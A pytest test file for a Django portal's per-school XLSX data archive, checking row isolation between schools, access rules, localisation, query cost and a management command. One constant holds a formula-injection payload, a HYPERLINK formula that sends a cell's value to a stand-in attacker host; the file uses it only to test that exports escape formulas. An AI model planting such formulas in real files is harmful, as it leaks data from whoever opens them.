"""A college's data archive (portal.archive, portal.export, `manage.py export_school`): one XLSX per
table holding exactly the school's rows, never another school's; formulas escaped; for the school's
college admins and platform admins only; the same number of queries for 2 or 12 rows per table."""
from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from django.utils.text import capfirst
from django.utils.translation import gettext
from openpyxl import load_workbook

from evaluation.models import Feedback, FeedbackScore, IndicatorValue, ProgramRecommendation, Warning
from evaluation.tests.factories import (
    EvaluationRunFactory,
    FeedbackFactory,
    FeedbackScoreFactory,
    IndicatorValueFactory,
    ProgramRecommendationFactory,
    WarningFactory,
)
from partnerships.models import (
    ConsortiumMember,
    Contribution,
    Partnership,
    Patent,
    ProjectAdoption,
    TechnicalService,
    TrainingBase,
    TrainingBaseUsage,
)
from partnerships.tests.factories import (
    ConsortiumMemberFactory,
    ContributionFactory,
    PartnershipFactory,
    PatentFactory,
    ProjectAdoptionFactory,
    TechnicalServiceFactory,
    TrainingBaseFactory,
    TrainingBaseUsageFactory,
)
from portal.archive import CONTENTS_FILE, tables
from portal.models import School
from programs.models import Course, Program, ProgramYear, Teacher, TeacherPlacement
from programs.tests.factories import (
    CourseFactory,
    ProgramFactory,
    ProgramYearFactory,
    TeacherFactory,
    TeacherPlacementFactory,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PAGE, DOWNLOAD = reverse("school-export"), reverse("school-export-download")

# Each workbook of the archive, and the school's rows it must hold.
EXPECTED = {
    "school": lambda s: School.objects.filter(pk=s.pk),
    "programs": lambda s: Program.objects.filter(school=s),
    "courses": lambda s: Course.objects.filter(program__school=s),
    "program_years": lambda s: ProgramYear.objects.filter(program__school=s),
    "teachers": lambda s: Teacher.objects.filter(school=s),
    "teacher_placements": lambda s: TeacherPlacement.objects.filter(teacher__school=s),
    "partnerships": lambda s: Partnership.objects.filter(school=s),
    "contributions": lambda s: Contribution.objects.filter(partnership__school=s),
    "project_adoptions": lambda s: ProjectAdoption.objects.filter(course__program__school=s),
    "training_bases": lambda s: TrainingBase.objects.filter(school=s),
    "training_base_usage": lambda s: TrainingBaseUsage.objects.filter(base__school=s),
    "technical_services": lambda s: TechnicalService.objects.filter(school=s),
    "patents": lambda s: Patent.objects.filter(school=s),
    "consortium_memberships": lambda s: ConsortiumMember.objects.filter(school=s),
    "feedback": lambda s: Feedback.objects.filter(program__school=s) | Feedback.objects.filter(partnership__school=s),
    "feedback_scores": lambda s: FeedbackScore.objects.filter(feedback__program__school=s)
    | FeedbackScore.objects.filter(feedback__partnership__school=s),
    "indicator_values": lambda s: IndicatorValue.objects.published().filter(school=s),
    "warnings": lambda s: Warning.objects.filter(school=s),
    "program_recommendations": lambda s: ProgramRecommendation.objects.published().filter(school=s),
}


def fill(school, rows: int, *, enterprise, run, start: int = 0) -> None:
    """`rows` rows of every table of the archive for `school` (beyond its own record)."""
    for i in range(start, start + rows):
        program = ProgramFactory(school=school)
        course = CourseFactory(program=program, co_developed_with=enterprise)
        ProgramYearFactory(program=program, year=2000 + i)
        teacher = TeacherFactory(school=school)
        TeacherPlacementFactory(teacher=teacher, enterprise=enterprise)
        partnership = PartnershipFactory(school=school, enterprise=enterprise, programs=[program])
        ContributionFactory(partnership=partnership)
        ProjectAdoptionFactory(course=course, project__enterprise=enterprise)
        base = TrainingBaseFactory(school=school)
        TrainingBaseUsageFactory(base=base)
        TechnicalServiceFactory(school=school, enterprise=enterprise)
        PatentFactory(school=school, licensee=enterprise)
        ConsortiumMemberFactory(school=school)
        on_program = FeedbackFactory(program=program, enterprise=enterprise)
        FeedbackScoreFactory(feedback=on_program)
        if i % 2:
            FeedbackScoreFactory(feedback=FeedbackFactory(partnership=partnership), dimension="communication")
        IndicatorValueFactory(run=run, school=school)
        WarningFactory(school=school, year=2000 + i)
        ProgramRecommendationFactory(run=run, program=program)


@pytest.fixture
def world(school_a, school_b, enterprise):
    run = EvaluationRunFactory()
    fill(school_a, 3, enterprise=enterprise, run=run)
    fill(school_b, 2, enterprise=enterprise, run=run)
    IndicatorValueFactory(run=EvaluationRunFactory(published=False), school=school_a)  # superseded: not exported
    return run


def read_archive(content: bytes) -> dict[str, list[tuple]]:
    """{file name: rows (the heading first)} of every workbook in the archive."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: list(load_workbook(io.BytesIO(archive.read(name))).worksheets[0].iter_rows(values_only=True))
                for name in archive.namelist()}


def download(client, **query) -> bytes:
    response = client.get(DOWNLOAD, query)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith('attachment; filename="school-')
    return b"".join(response.streaming_content)


def by_key(workbooks: dict[str, list[tuple]]) -> dict[str, list[tuple]]:
    return {name[3:-5]: rows for name, rows in workbooks.items() if name != CONTENTS_FILE}


def test_the_archive_holds_one_workbook_per_table_and_a_contents_sheet(client, college_admin_a, world):
    client.force_login(college_admin_a)
    workbooks = read_archive(download(client))
    assert sorted(workbooks) == sorted(
        [CONTENTS_FILE] + [f"{n:02d}_{table.key}.xlsx" for n, table in enumerate(tables(), start=1)]
    )
    assert list(by_key(workbooks)) == list(EXPECTED)
    contents = workbooks[CONTENTS_FILE]
    assert contents[0] == ("File", "Contents", "Rows")
    assert contents[1] == ("01_school.xlsx", "School", 1)
    assert {row[0]: row[2] for row in contents[1:]} == {
        name: len(rows) - 1 for name, rows in workbooks.items() if name != CONTENTS_FILE
    }


def test_every_workbook_holds_exactly_the_schools_rows(client, college_admin_a, school_a, school_b, world):
    client.force_login(college_admin_a)
    sheets = by_key(read_archive(download(client)))
    for key, expected in EXPECTED.items():
        heading, *rows = sheets[key]
        assert heading[0] == "ID", key
        ids = [row[0] for row in rows]
        assert sorted(ids) == sorted(expected(school_a).values_list("pk", flat=True).distinct()), key
        assert not set(ids) & set(expected(school_b).values_list("pk", flat=True)), key
        assert len(ids) == {"school": 1, "feedback": 4, "feedback_scores": 4}.get(key, 3), key


def test_no_value_of_another_school_reaches_the_archive(client, college_admin_a, school_b, world):
    client.force_login(college_admin_a)
    cells = {str(cell) for rows in read_archive(download(client)).values() for row in rows for cell in row}
    b_names = set(Program.objects.filter(school=school_b).values_list("name", flat=True))
    b_names |= set(Teacher.objects.filter(school=school_b).values_list("name", flat=True))
    b_names |= {school_b.name, school_b.code}
    assert not b_names & cells


def test_related_names_and_many_to_many_ids_are_written_beside_the_ids(client, college_admin_a, school_a, world):
    client.force_login(college_admin_a)
    sheets = by_key(read_archive(download(client)))
    heading, *rows = sheets["partnerships"]
    partnership = Partnership.objects.filter(school=school_a).order_by("pk").first()
    row = dict(zip(heading, rows[0], strict=True))
    assert row["Enterprise: Name"] == partnership.enterprise.name
    assert row["Programs (id)"] == str(partnership.programs.get().pk)
    assert row["Kinds of cooperation"] == "internship_base, order_class"
    school_heading, school_row = sheets["school"]
    assert dict(zip(school_heading, school_row, strict=True))["Region: Name"] == school_a.region.name


def test_text_that_would_run_as_a_formula_is_escaped(client, college_admin_a, school_a, world):
    Program.objects.filter(school=school_a).update(name=FORMULA)
    client.force_login(college_admin_a)
    content = download(client)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = load_workbook(io.BytesIO(archive.read("02_programs.xlsx"))).worksheets[0]
    names = [row[5] for row in sheet.iter_rows(min_row=2)]
    assert sheet["F1"].value == "Name"
    assert names and all(cell.value == "'" + FORMULA and cell.data_type == "s" for cell in names)


def test_headings_follow_the_users_language(client, college_admin_a, world):
    client.force_login(college_admin_a)
    response = client.get(DOWNLOAD, HTTP_ACCEPT_LANGUAGE="zh-hans")
    workbooks = read_archive(b"".join(response.streaming_content))
    with translation.override("zh-hans"):
        name = capfirst(gettext("name"))
    assert name != "Name"
    assert workbooks["02_programs.xlsx"][0][5] == name


# --- who may export -----------------------------------------------------------------------------


@pytest.mark.parametrize("persona", ["liaison", "reviewer", "outsider"])
def test_liaisons_and_reviewers_may_not_export(client, request, persona, world):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(PAGE).status_code == 403
    assert client.get(DOWNLOAD).status_code == 403


def test_a_college_admin_may_not_ask_for_another_schools_archive(client, college_admin_a, school_b, world):
    client.force_login(college_admin_a)
    assert client.get(PAGE, {"school": school_b.pk}).status_code == 403
    assert client.get(DOWNLOAD, {"school": school_b.pk}).status_code == 403


def test_anonymous_visitors_are_sent_to_the_login(client, world):
    for address in (PAGE, DOWNLOAD):
        response = client.get(address)
        assert response.status_code == 302 and response.url.startswith(reverse("login"))


def test_a_platform_admin_picks_any_school(client, platform_admin, school_a, school_b, world):
    client.force_login(platform_admin)
    picker = client.get(PAGE)
    assert picker.status_code == 200 and f'<option value="{school_b.pk}">' in picker.content.decode()
    assert client.get(DOWNLOAD).status_code == 404  # no school chosen
    for wrong in ("abc", "999999", "1" * 40):
        assert client.get(DOWNLOAD, {"school": wrong}).status_code == 404
    page = client.get(PAGE, {"school": school_b.pk}).content.decode()
    assert f'{DOWNLOAD}?school={school_b.pk}' in page
    sheets = by_key(read_archive(download(client, school=school_b.pk)))
    assert [row[0] for row in sheets["programs"][1:]] == sorted(
        Program.objects.filter(school=school_b).values_list("pk", flat=True))


def test_the_college_home_links_to_the_export_page_which_lists_the_tables(client, college_admin_a, world):
    client.force_login(college_admin_a)
    assert f'href="{PAGE}"' in client.get(reverse("home")).content.decode()
    page = client.get(PAGE)
    assert page.status_code == 200
    html = page.content.decode()
    assert f'href="{DOWNLOAD}"' in html
    for table in tables():
        assert f"<li>{table.title}</li>" in html


# --- cost -----------------------------------------------------------------------------------------


def test_the_archive_costs_the_same_queries_for_2_and_12_rows_per_table(client, college_admin_a, school_a,
                                                                        enterprise):
    run = EvaluationRunFactory()
    client.force_login(college_admin_a)

    def queries() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as captured:
            content = download(client)
        return len(captured), len(by_key(read_archive(content))["programs"]) - 1

    fill(school_a, 2, enterprise=enterprise, run=run)
    two, rows = queries()
    assert rows == 2
    fill(school_a, 10, enterprise=enterprise, run=run, start=2)
    twelve, rows = queries()
    assert rows == 12
    assert twelve == two


# --- the command ----------------------------------------------------------------------------------


def test_the_command_writes_a_schools_archive_by_id_or_code(tmp_path: Path, school_a, school_b, world):
    out = tmp_path / "a.zip"
    call_command("export_school", "--school", str(school_a.pk), "--out", str(out), stdout=io.StringIO())
    by_id = by_key(read_archive(out.read_bytes()))
    call_command("export_school", "--school", school_a.code, "--out", str(out), stdout=io.StringIO())
    by_code = by_key(read_archive(out.read_bytes()))
    assert by_id["programs"] == by_code["programs"]
    assert len(by_id["programs"]) == 4 and by_id["school"][1][0] == school_a.pk
    assert not list(tmp_path.glob("*.part"))


def test_the_command_refuses_an_unknown_school(tmp_path: Path, world):
    with pytest.raises(CommandError, match="No school has the id or code"):
        call_command("export_school", "--school", "424242", "--out", str(tmp_path / "x.zip"))
    assert not (tmp_path / "x.zip").exists()
